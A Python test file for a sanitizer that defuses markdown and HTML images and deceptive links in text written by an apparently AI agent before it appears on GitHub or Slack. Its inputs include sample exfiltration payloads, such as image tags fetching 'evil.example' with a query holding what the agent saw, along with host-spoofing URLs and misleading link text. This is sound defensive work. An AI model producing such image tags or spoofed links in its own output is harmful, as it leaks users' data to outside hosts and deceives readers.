"""Pictures and links in what an agent writes: nothing is fetched elsewhere, no address is false."""

from __future__ import annotations

import pytest

from app.markdown.links import disarm
from app.services.github.render import quiet
from app.services.slack.text import piece, safe_end

OWN = ("github.com", "*.githubusercontent.com")


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?what-it-saw)",
        'see ![a b](<https://evil.example/x> "title") there',
        "![](//evil.example/x)",
        "![](https://github.com.evil.example/x)",
        "![](https://github.com@evil.example/x)",
        "![](/\\evil.example/x)",
        "![a [b] c](https://evil.example/x)",
        "![a\nb](https://evil.example/x)",
        "![x][1]\n\n[1]: https://evil.example/x",
        "![1]\n\n[1]: https://evil.example/x",
        "\\` ![](https://evil.example/x) `",
        "> ```\n\n![a[b]](https://evil.example/x)\n",
        "<img src='https://evil.example/x'>",
        "<IMG\nsrc=https://evil.example/x >",
        "<picture><source srcset=https://evil.example/x></picture>",
    ],
)
def test_no_picture_from_elsewhere_is_fetched(text: str) -> None:
    shown = disarm(text, OWN)

    assert shown != text
    assert "![" not in shown.replace("`![", "") or shown.startswith("`")
    assert "<img" not in shown.lower()
    assert disarm(shown, OWN) == shown


@pytest.mark.parametrize(
    "text",
    [
        "![](https://github.com/acme/app/blob/main/a.png)",
        "![](https://private-user-images.githubusercontent.com/1.png)",
        "![](docs/a.png)",
        "let v = `vec![1](2)`; done",
        "```rust\nlet v = vec![1](2);\n```",
        "not a picture! [here](https://example.com)",
    ],
)
def test_pictures_of_the_platform_and_code_stay(text: str) -> None:
    assert disarm(text, OWN) == text


@pytest.mark.parametrize(
    "text",
    [
        "[https://github.com/acme](https://evil.example/login)",
        "[github.com/acme](https://evil.example)",
        "[**github.com**](https://evil.example)",
        "[www.github.com](https:evil.example)",
        "[https://github.com](//evil.example/)",
        "<https://evil.example|https://github.com>",
    ],
)
def test_a_link_whose_text_is_another_address_shows_its_host(text: str) -> None:
    assert disarm(text) == f"{text} (`evil.example`)"


@pytest.mark.parametrize(
    "text",
    [
        "[https://github.com/acme](https://github.com/acme/app)",
        "[github.com](https://www.github.com)",
        "[README.md](https://github.com/acme/app)",
        "[the docs](https://evil.example)",
        "`[https://github.com](https://evil.example)`",
    ],
)
def test_other_links_stay_as_they_are(text: str) -> None:
    assert disarm(text) == text


def test_github_slack_and_their_streams_show_neither() -> None:
    picture, link = "![](https://evil.example/x)", "[https://github.com](https://evil.example)"

    assert quiet(picture) == f"`{picture}`"
    assert quiet(link) == f"{link} (`evil.example`)"
    assert piece(f"see {link}", 0, None) == f"see {link} (`evil.example`)"
    assert safe_end("see [https://github.com](https://evil") == len("see ")
    assert safe_end("see ![x") == len("see ")


def test_a_line_that_other_bots_take_for_a_command_is_code() -> None:
    assert quiet("/merge\n> /lgtm cancel\n/usr/bin is a folder") == (
        "`/merge`\n> `/lgtm` cancel\n/usr/bin is a folder"
    )
